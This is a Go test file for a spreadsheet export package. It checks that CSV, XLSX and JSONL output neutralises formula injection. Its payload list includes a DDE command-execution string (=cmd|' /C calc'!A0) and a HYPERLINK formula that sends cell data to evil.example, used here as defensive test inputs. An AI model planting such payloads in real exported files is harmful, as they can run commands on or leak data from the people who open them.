package spreadsheet

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/rag-workbench/workbench/internal/problem"
)

// formulas are texts that a spreadsheet could run.
var formulas = []string{
	`=cmd|' /C calc'!A0`, "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "\u3000=1",
	"\u00a0=1", "\ufeff=1", "|calc", "%0A=1",
	`=HYPERLINK("http://evil.example?x="&A1,"click")`, "\x00=1", "=", `"=1+1"`,
}

func payloadTable(texts []string) Table {
	return Table{Name: "questions", Columns: []string{"text", "=title", "score", "low", "n", "none"},
		Rows: func(yield func([]any) error) error {
			for _, s := range texts {
				if err := yield([]any{s, "x", 0.25, true, 3}); err != nil {
					return err
				}
			}
			return nil
		}}
}

func TestCSVRunsNothing(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	if err := payloadTable(append(formulas, "plain", "日本語, \"引用\"\n二行")).Write(&out, "csv"); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(out.Bytes(), []byte("\xef\xbb\xbf")) {
		t.Error("no byte order mark")
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\ufeff"))).ReadAll()
	if err != nil || len(rows) != len(formulas)+3 {
		t.Fatal(len(rows), err)
	}
	for i, row := range rows {
		for _, cell := range row {
			if first := strings.TrimLeft(cell, " \u3000\u00a0\ufeff"); first != "" && strings.ContainsAny(first[:1], "=+-@\t\r\n\x00|%") ||
				strings.HasPrefix(first, "＝") {
				t.Errorf("row %d: %q could run", i, cell)
			}
		}
	}
	last := rows[len(rows)-1]
	if last[0] != "日本語, \"引用\"\n二行" || last[2] != "0.25" || last[3] != "true" || last[4] != "3" || last[5] != "" {
		t.Errorf("last row %q", last)
	}
}

func TestWorkbookRunsNothing(t *testing.T) {
	t.Parallel()
	var out, again bytes.Buffer
	long := strings.Repeat("長", maxCellRunes+5)
	if err := payloadTable(append(formulas, long)).Write(&out, "xlsx"); err != nil {
		t.Fatal(err)
	}
	if err := payloadTable(append(formulas, long)).Write(&again, "xlsx"); err != nil || !bytes.Equal(out.Bytes(), again.Bytes()) {
		t.Errorf("the same table gives other bytes (%v)", err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(out.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i := range len(formulas) + 2 {
		for _, column := range []string{"A", "B"} {
			at := column + string(rune('0'+(i+1)%10))
			if i+1 >= 10 {
				at = column + string(rune('0'+(i+1)/10)) + string(rune('0'+(i+1)%10))
			}
			if formula, err := f.GetCellFormula("questions", at); err != nil || formula != "" {
				t.Errorf("%s is the formula %q (%v)", at, formula, err)
			}
		}
	}
	if got, err := f.GetCellValue("questions", "A2"); err != nil || got != formulas[0] {
		t.Errorf("A2 = %q (%v)", got, err)
	}
	z, err := zip.NewReader(bytes.NewReader(out.Bytes()), int64(out.Len()))
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range z.File {
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(body, []byte("<f>")) || bytes.Contains(body, []byte(`TargetMode="External"`)) {
			t.Errorf("%s holds a formula or leads outside", part.Name)
		}
	}
}

func TestJSONLChangesNothing(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	if err := payloadTable(formulas).Write(&out, "jsonl"); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
	for i, line := range lines {
		var row map[string]any
		if err := json.Unmarshal([]byte(line), &row); err != nil || row["text"] != formulas[i] || row["score"] != 0.25 ||
			row["none"] != nil {
			t.Errorf("line %d: %s (%v)", i, line, err)
		}
	}
	if !strings.HasPrefix(lines[1], `{"text":"+1+1","=title":"x","score":0.25,"low":true,"n":3,"none":null}`) {
		t.Errorf("order of columns: %s", lines[1])
	}
}

func TestTablesPassErrorsOn(t *testing.T) {
	t.Parallel()
	broken := errors.New("broken")
	for _, format := range Formats() {
		table := payloadTable(nil)
		table.Rows = func(func([]any) error) error { return broken }
		if err := table.Write(io.Discard, format); !errors.Is(err, broken) {
			t.Errorf("%s: %v", format, err)
		}
	}
	if err := payloadTable(nil).Write(io.Discard, "exe"); !problem.Is(err, problem.Invalid) {
		t.Errorf("unknown format: %v", err)
	}
}
